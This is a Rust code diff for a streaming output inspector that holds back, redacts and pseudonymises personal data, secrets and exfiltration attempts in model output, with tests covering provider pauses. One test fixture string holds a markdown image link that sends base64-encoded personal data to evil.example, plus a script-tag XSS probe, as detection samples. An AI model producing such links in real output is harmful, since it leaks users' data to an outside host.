@@ -4,28 +4,51 @@
 //! buffer that no future chunk can change and holds back only the tail that could still
 //! become part of a match or of a pseudonym token:
 //!
-//! 1. **Hold-back bound.** Every detector tells how many bytes at the end of the pending
-//!    text could still become part of a match ([`Detector::pending_tail`], at most its
-//!    [`Detector::max_match_len`]); the inspector holds back the maximum of these, plus
-//!    an unclosed `<TOKEN_N` that may be a pseudonym split across chunks.
-//! 2. **Word boundary.** The cut is moved back to the start of the word it falls in (by at
-//!    most [`WORD_SNAP`] bytes), and the character before the cut is kept as context for
-//!    the next window, so that `\b` and `^` behave as they do on the whole text.
-//! 3. **No split findings.** If a finding straddles the cut, the cut moves before it: the
+//! 1. **Hold-back: the shortest tail that may still become a match.** Every detector
+//!    tells how many bytes at the end of the pending text could still become part of a
+//!    match ([`Detector::pending_tail`], at most its [`Detector::max_match_len`]); the
+//!    inspector holds back the maximum of these, plus an unclosed `<TOKEN_N` that may be
+//!    a pseudonym split across chunks. For prose that is the word still being written
+//!    (any word may yet become the local part of an e-mail address or a key); more only
+//!    near a digit (a number with separators may still grow), after a key word of an
+//!    assignment (`password = `), inside an open link, tag or PEM block, for words that
+//!    may begin a run copied from the system prompt, and for custom rules (their
+//!    `max_len`). A detector that can only log in this direction holds the last word.
+//! 2. **Look-behind.** The last [`LOOK_BEHIND`] bytes already emitted are read again with
+//!    the next window (findings that start in them are not reported twice), so that
+//!    context words before a number, a key before its value and `\b` / `^` see what they
+//!    see in the whole text.
+//! 3. **Word boundary.** The cut is moved back to the start of the word it falls in (by
+//!    at most [`WORD_SNAP`] bytes).
+//! 4. **No split findings.** If a finding straddles the cut, the cut moves before it: the
 //!    finding is decided with the next chunk. Only a finding that keeps growing past
 //!    [`MAX_PENDING`] bytes is split (each part is reported and acted on).
 //!
+//! **Deadline** ([`StreamInspector::release`], called by the gateway when the provider
+//! has sent nothing for `[guard] stream_release_ms`). Time says nothing about what comes
+//! next, so a pause releases no text that a later chunk could still turn into a match:
+//! a partial key, an address without its domain, an open link, an unfinished pseudonym
+//! token or a run of copied prompt words stay held. What a pause can decide is a tail
+//! that is *already* wholly inside one match the policy rewrites (redact, mask,
+//! pseudonymise, sanitise) or blocks — `…write to ana@example.es` with nothing after it.
+//! Its replacement is final: it goes out now, the match is kept as look-behind, and
+//! whatever arrives next that extends the same match (`tate.com`) is absorbed into the
+//! replacement already sent rather than emitted. Neither prefix nor extension of a
+//! secret ever leaves; the only difference from whole-text inspection is the entity
+//! name when the extension turns the match into another type.
+//!
 //! Work per chunk is bounded: each push inspects the pending text (at most the hold-back
-//! bound, plus the chunk, plus one word) and never the history, so a stream costs
-//! O(n + chunks × bound); the delay is at most one chunk plus the hold-back bound.
-//! Findings carry code-point offsets into the whole stream. Emitted text has the
-//! session's pseudonyms restored, except tokens in a URL, an HTML tag or URL-building
-//! code (judged over the emitted window and the text emitted before it, so a URL split
-//! across emits counts; reported as `<TYPE>_IN_URL` findings, see
-//! [`Session::restore_checked`]); a token is never split across two emits.
+//! bound, plus the chunk, plus one word) and the look-behind, never the history, so a
+//! stream costs O(n + chunks × bound). Findings carry code-point offsets into the whole
+//! stream. Emitted text has the session's pseudonyms restored, except tokens in a URL,
+//! an HTML tag or URL-building code (judged over the emitted window and the text emitted
+//! before it, so a URL split across emits counts; reported as `<TYPE>_IN_URL` findings,
+//! see [`Session::restore_checked`]); a token is never split across two emits.
 //!
 //! Detectors that score the text as a whole (the injection classifier, banned topics
-//! with `min_matches > 1`, system-prompt overlap) see one window at a time in a stream.
+//! with `min_matches > 1`, system-prompt overlap) see one window at a time in a stream;
+//! a log-only finding (output injection by default) that spans a cut is judged on the
+//! windows on each side of it.
 //!
 //! [`Detector::pending_tail`]: crate::Detector::pending_tail
 //! [`Detector::max_match_len`]: crate::Detector::max_match_len
@@ -41,6 +64,10 @@ use rampart_core::{Decision, Finding, FindingKind};
 pub const WORD_SNAP: usize = 256;
 /// Pending text beyond which a finding that keeps growing is split rather than waited for.
 pub const MAX_PENDING: usize = 64 * 1024;
+/// Emitted text kept as read-only look-behind for the next window: context words before
+/// a number, a key before its value, an `Authorization:` header before its token. As
+/// long as the whole-bound hold-back that the windows used to start with.
+pub const LOOK_BEHIND: usize = crate::detectors::DEFAULT_MAX_MATCH_LEN;
 /// How much emitted text is kept to judge whether a token in the next emit sits in a URL
 /// (the longest URL and tag the exfiltration detector reads).
 const RESTORE_CONTEXT: usize =
@@ -60,17 +87,31 @@ pub struct StreamStep {
     pub injection_score: f32,
 }
 
+/// Why a step runs: new text, a pause of the provider, or the end of the stream.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+enum Step {
+    Push,
+    Deadline,
+    End,
+}
+
 /// An incremental inspector; create it with [`Guard::stream`].
 #[derive(Debug)]
 pub struct StreamInspector<'g> {
     guard: &'g Guard,
     ctx: Context,
-    /// The last emitted character, kept as look-behind context for the next window.
+    /// Emitted text (as the model wrote it) kept as look-behind for the next window: the
+    /// last [`LOOK_BEHIND`] bytes, or, while absorbing, everything from the start of the
+    /// match released on a deadline.
     context: String,
     pending: String,
     /// Code points already emitted, to offset findings into the whole stream.
     emitted_chars: usize,
     blocked: bool,
+    /// Set when a deadline released a tail that ended inside a match: bytes at the end of
+    /// `context` since that match began. What arrives next and extends the same match is
+    /// absorbed into the replacement already emitted.
+    absorbing: Option<usize>,
     /// The last [`RESTORE_CONTEXT`] bytes emitted, before pseudonyms were restored: a URL
     /// that started in an earlier emit still keeps a token out of it.
     restored_context: String,
@@ -85,6 +126,7 @@ impl<'g> StreamInspector<'g> {
             pending: String::new(),
             emitted_chars: 0,
             blocked: false,
+            absorbing: None,
             restored_context: String::new(),
         }
     }
@@ -95,7 +137,17 @@ impl<'g> StreamInspector<'g> {
             return Ok(StreamStep::default());
         }
         self.pending.push_str(chunk);
-        self.step(false, session)
+        self.step(Step::Push, session)
+    }
+
+    /// The provider has sent nothing for a while: release what a pause can decide (see
+    /// the module doc, "Deadline"). Never releases text that could still become part of
+    /// a match unless the whole held tail already is one, whose replacement is final.
+    pub fn release(&mut self, session: &mut Session) -> Result<StreamStep, GuardError> {
+        if self.blocked || self.pending.is_empty() {
+            return Ok(StreamStep::default());
+        }
+        self.step(Step::Deadline, session)
     }
 
     /// End of stream: inspect and flush everything held back.
@@ -103,7 +155,7 @@ impl<'g> StreamInspector<'g> {
         if self.blocked {
             return Ok(StreamStep::default());
         }
-        self.step(true, session)
+        self.step(Step::End, session)
     }
 
     /// Whether the policy blocked the stream.
@@ -116,7 +168,42 @@ impl<'g> StreamInspector<'g> {
         self.pending.len()
     }
 
-    fn step(&mut self, last: bool, session: &mut Session) -> Result<StreamStep, GuardError> {
+    /// Append emitted (or absorbed) raw text to the look-behind context and trim it.
+    fn remember(&mut self, raw: &str) {
+        self.context.push_str(raw);
+        let keep = match &mut self.absorbing {
+            Some(since) => {
+                *since += raw.len();
+                (*since).clamp(LOOK_BEHIND, MAX_PENDING)
+            }
+            None => LOOK_BEHIND,
+        };
+        if self.context.len() > keep {
+            let cut = ceil_char_boundary(&self.context, self.context.len() - keep);
+            self.context.drain(..cut);
+        }
+    }
+
+    /// Whether `f` (code points into `text`) is replaced or stops the stream under the
+    /// policy, once resolved (score, allow-list, action): only such a match may be
+    /// released on a deadline, because only its replacement hides the rest of it.
+    fn rewrites(&self, text: &str, f: &Finding) -> bool {
+        if self.guard.policy().mode == crate::policy::GuardMode::Monitor {
+            return false;
+        }
+        self.guard
+            .resolve(text, vec![f.clone()], self.ctx)
+            .iter()
+            .any(|(_, action)| {
+                !matches!(
+                    action,
+                    crate::policy::Action::Allow | crate::policy::Action::Log
+                )
+            })
+    }
+
+    fn step(&mut self, mode: Step, session: &mut Session) -> Result<StreamStep, GuardError> {
+        let last = mode == Step::End;
         let len = self.pending.len();
         let mut cut = if last {
             len
@@ -128,11 +215,14 @@ impl<'g> StreamInspector<'g> {
             let cut = floor_char_boundary(&self.pending, len - hold.min(len));
             word_start(&self.pending, cut)
         };
-        if cut == 0 && !(last && len > 0) {
+        if cut == 0 && len == 0 {
+            return Ok(StreamStep::default());
+        }
+        if cut == 0 && mode == Step::Push && self.absorbing.is_none() {
             return Ok(StreamStep::default());
         }
 
-        // Inspect the window: the look-behind character and the pending text.
+        // Inspect the window: the look-behind context and the pending text.
         let context_chars = self.context.chars().count();
         let mut window = String::with_capacity(self.context.len() + len);
         window.push_str(&self.context);
@@ -142,6 +232,39 @@ impl<'g> StreamInspector<'g> {
             injection_score,
             injection_tiers,
         } = self.guard.detect_with(&window, self.ctx, Some(session))?;
+
+        // After a deadline released a match whole, what extends it is absorbed into the
+        // replacement already sent; once the match stops growing, inspection goes on.
+        if self.absorbing.is_some() {
+            let extends = findings
+                .iter()
+                .filter(|f| f.start < context_chars && f.end > context_chars)
+                .filter(|f| self.rewrites(&window, f))
+                .map(|f| f.end - context_chars)
+                .max();
+            let pending_chars = self.pending.chars().count();
+            match extends {
+                Some(end) if end >= pending_chars && mode == Step::Push => {
+                    return Ok(StreamStep::default());
+                }
+                Some(end) => {
+                    let end = end.min(pending_chars);
+                    let bytes = byte_of_char(&self.pending, end);
+                    let absorbed: String = self.pending.drain(..bytes).collect();
+                    self.emitted_chars += end;
+                    self.remember(&absorbed);
+                    if self.pending.is_empty() {
+                        return Ok(StreamStep::default());
+                    }
+                }
+                None => {}
+            }
+            // The match ended (or never grew): back to the usual look-behind.
+            self.absorbing = None;
+            self.remember("");
+            return self.step(mode, session);
+        }
+
         let mut findings: Vec<Finding> = findings
             .into_iter()
             .filter(|f| f.start >= context_chars)
@@ -172,9 +295,32 @@ impl<'g> StreamInspector<'g> {
                 cut = token_cut;
                 cut_cp = self.pending[..cut].chars().count();
             }
-            if cut == 0 {
-                return Ok(StreamStep::default());
+        }
+        // A pause decides a held tail only when one match that the policy rewrites
+        // already covers all of it: its replacement goes out now and absorbs whatever
+        // later extends it. Any other tail (a word that may still become an address, a
+        // partial key, an open link, a run of copied prompt words) stays held.
+        let mut absorb_from = None;
+        if mode == Step::Deadline
+            && cut < len
+            && open_token_tail(&self.pending, session.longest_token()) == 0
+        {
+            let pending_chars = self.pending.chars().count();
+            let covering = findings
+                .iter()
+                .filter(|f| f.start <= cut_cp && f.end == pending_chars)
+                .min_by_key(|f| f.start)
+                .cloned();
+            if let Some(f) = covering
+                && self.rewrites(&self.pending, &f)
+            {
+                cut = len;
+                cut_cp = pending_chars;
+                absorb_from = Some(byte_of_char(&self.pending, f.start));
             }
+        }
+        if cut == 0 {
+            return Ok(StreamStep::default());
         }
         findings.retain(|f| f.start < cut_cp);
         for f in &mut findings {
@@ -215,11 +361,16 @@ impl<'g> StreamInspector<'g> {
                 injection_score,
             });
         }
-        self.context.clear();
-        if let Some(c) = head.chars().next_back() {
-            self.context.push(c);
+        let head: String = self.pending.drain(..cut).collect();
+        if let Some(from) = absorb_from {
+            // Keep the whole released match as look-behind, so its extension is seen.
+            self.absorbing = Some(0);
+            self.remember(&head[..from]);
+            self.absorbing = Some(0);
+            self.remember(&head[from..]);
+        } else {
+            self.remember(&head);
         }
-        self.pending.drain(..cut);
         // Restore pseudonyms, except where the emitted text (read after what was emitted
         // before it) puts them in a URL: see `Session::restore_checked`.
         let (emit, withheld) = session.restore_after(&self.restored_context, &inspection.text);
@@ -419,7 +570,9 @@ mod tests {
         let guard = Guard::new(Policy::default()).unwrap();
         let text = "Contact ana@example.es or bo@example.org. Key AKIAIOSFODNN7EXAMPLE here. \
                     ![x](https://evil.example/p.png?d=QWxpY2UgSm9uZXMsIDQxMTEgMTExMQ) and \
-                    <script>alert(1)</script> — café ✓ "
+                    <script>alert(1)</script> — café ✓ tel. +34 612 345 678, password = \
+                    hunter2Xy!9 and IBAN ES91 2100 0418 4502 0005 1332; born on September \
+                    15, 1990. "
             // Few enough repetitions to stay under the detectors' per-text caps on
             // findings (e.g. the injection heuristics' MAX_HITS): past a cap, whole-text
             // inspection legitimately reports fewer findings than chunked inspection.
@@ -447,22 +600,144 @@ mod tests {
 
     #[test]
     fn held_back_tail_is_short_for_prose() {
-        // Output prose: only the last word (and the default 256-byte bound of the
-        // built-in PII and secret detectors) is held back, not the whole stream.
+        // Output prose streamed a word at a time (the way providers send it): each push
+        // releases everything but the word still being written (issue 12: 26 words
+        // reached the client as one piece after the answer ended).
         let guard = Guard::new(Policy::default()).unwrap();
         let mut s = guard.stream(Context::output());
         let mut session = Session::new();
-        let mut emitted = 0;
-        let text = "the quick brown fox jumps over the lazy dog ".repeat(200);
-        for c in chunked(&text, 40) {
-            emitted += s.push(c, &mut session).unwrap().emit.len();
-            assert!(
-                s.pending_len() <= 256 + 40 + WORD_SNAP,
-                "{}",
-                s.pending_len()
-            );
+        let words = "The quick brown fox jumps over the lazy dog while a careful reader \
+                     watches each word arrive on time and nothing waits for the end";
+        let mut out = String::new();
+        for (i, w) in words.split(' ').enumerate() {
+            let piece = if i == 0 {
+                w.to_owned()
+            } else {
+                format!(" {w}")
+            };
+            out.push_str(&s.push(&piece, &mut session).unwrap().emit);
+            assert_eq!(s.pending_len(), w.len(), "after {piece:?}: {out:?}");
         }
-        assert!(emitted >= text.len() - 600, "{emitted}");
+        out.push_str(&s.finish(&mut session).unwrap().emit);
+        assert_eq!(out, words);
+    }
+
+    /// A push, then a pause: what each released.
+    fn push_then_pause(guard: &Guard, chunks: &[&str], session: &mut Session) -> Vec<String> {
+        let mut s = guard.stream(Context::output());
+        let mut steps = Vec::new();
+        for c in chunks {
+            let pushed = s.push(c, session).unwrap().emit;
+            let released = s.release(session).unwrap().emit;
+            steps.push(format!("{pushed}|{released}"));
+        }
+        steps.push(s.finish(session).unwrap().emit);
+        steps
+    }
+
+    #[test]
+    fn a_pause_never_releases_a_word_that_may_still_become_a_match() {
+        let guard = Guard::new(Policy::default()).unwrap();
+        let steps = push_then_pause(
+            &guard,
+            &[
+                "Write to ana.gar",
+                "cia@exam",
+                "ple.es today,",
+                " key AKIAIOSF",
+                "ODNN7EXAMPLE",
+                " ok",
+            ],
+            &mut Session::new(),
+        );
+        assert_eq!(
+            steps,
+            [
+                "Write to |",
+                "|",
+                "[EMAIL_ADDRESS] |",
+                "today, key |",
+                // Whole at the pause: the key is already a match, its replacement final.
+                "|[AWS_ACCESS_KEY]",
+                " |",
+                "ok"
+            ]
+        );
+    }
+
+    #[test]
+    fn a_pause_releases_a_whole_match_and_absorbs_what_extends_it() {
+        let guard = Guard::new(Policy::default()).unwrap();
+        // At the pause the held word is already an address: its replacement is final,
+        // and the rest of the same address, when it comes, is absorbed into it.
+        let steps = push_then_pause(
+            &guard,
+            &[
+                "Mail ana@example.es",
+                "tate.com",
+                " or bo@example.org",
+                " now",
+            ],
+            &mut Session::new(),
+        );
+        let out: String = steps.concat().replace('|', "");
+        assert_eq!(out, "Mail [EMAIL_ADDRESS] or [EMAIL_ADDRESS] now");
+        assert_eq!(steps[0], "Mail |[EMAIL_ADDRESS]");
+        assert!(!out.contains("tate"), "{out}");
+    }
+
+    #[test]
+    fn numbers_and_assignments_are_held_until_they_are_decided() {
+        let guard = Guard::new(Policy::default()).unwrap();
+        for chunks in [
+            &["Call me at +34 612", " 345 678", " tomorrow", " please."][..],
+            &["password = ", "hunter2", "Xy!9", " then", " go"][..],
+            &[
+                "Transfer to IBAN ES91 2100",
+                " 0418 4502",
+                " 0005 1332",
+                " today.",
+            ][..],
+        ] {
+            let steps = push_then_pause(&guard, chunks, &mut Session::new());
+            let out = steps.concat().replace('|', "");
+            let whole = guard
+                .inspect(&chunks.concat(), Context::output(), &mut Session::new())
+                .unwrap();
+            assert_ne!(
+                whole.text,
+                chunks.concat(),
+                "the sample must hold a finding"
+            );
+            assert_eq!(out, whole.text, "{steps:?}");
+        }
+    }
+
+    #[test]
+    fn only_words_that_may_begin_a_copied_prompt_run_are_held() {
+        let guard = Guard::new(Policy::default()).unwrap();
+        let mut session = Session::new();
+        session.remember_system_prompt(
+            "You are Orca, the support assistant of Acme Bank. Never discuss interest rates.",
+        );
+        let mut s = guard.stream(Context::output());
+        // Words of no shingle: released up to the word being written.
+        assert_eq!(
+            s.push("Hello there friend", &mut session).unwrap().emit,
+            "Hello there "
+        );
+        // "the support assistant" begins a shingle: held while it may grow into one.
+        assert_eq!(
+            s.push(" the support assistant ", &mut session)
+                .unwrap()
+                .emit,
+            "friend "
+        );
+        assert_eq!(s.release(&mut session).unwrap().emit, "");
+        assert_eq!(
+            s.push("is here.", &mut session).unwrap().emit,
+            "the support assistant is "
+        );
     }
 
     #[test]
